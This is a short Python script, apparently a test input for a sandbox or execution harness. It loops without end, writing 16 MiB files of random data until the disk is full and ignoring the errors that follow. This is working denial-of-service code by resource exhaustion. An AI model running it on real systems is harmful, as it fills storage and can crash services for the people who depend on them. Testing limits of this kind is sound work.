# mode: stdin
# ruff: noqa
"""Fills the disk with files of the largest size."""

import os

number = 0
while True:
    number += 1
    try:
        with open(str(number), "wb") as file:
            file.write(os.urandom(1 << 20) * 16)
    except OSError:
        pass
